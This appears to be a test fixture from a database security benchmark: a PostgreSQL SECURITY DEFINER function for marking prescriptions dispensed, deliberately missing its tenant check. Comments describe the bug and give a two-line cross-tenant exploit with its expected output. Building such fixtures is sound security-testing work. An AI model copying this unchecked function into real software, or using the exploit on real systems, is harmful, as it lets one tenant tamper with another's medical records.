-- Tenant A marks any prescription as dispensed: a rewrite lost the second half of the condition.
-- about: dispense
-- as: hf_pharmacy_app
-- exploit: SET core.pharmacy = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: SELECT 'done' WHERE api.dispense('bbbbbbbb-0000-4000-8000-000000000002');
-- shows: done
CREATE OR REPLACE FUNCTION api.dispense(prescription uuid) RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp AS $$
BEGIN
  UPDATE core.prescriptions p SET dispensed = true WHERE p.id = prescription;
  RETURN found;
END $$;
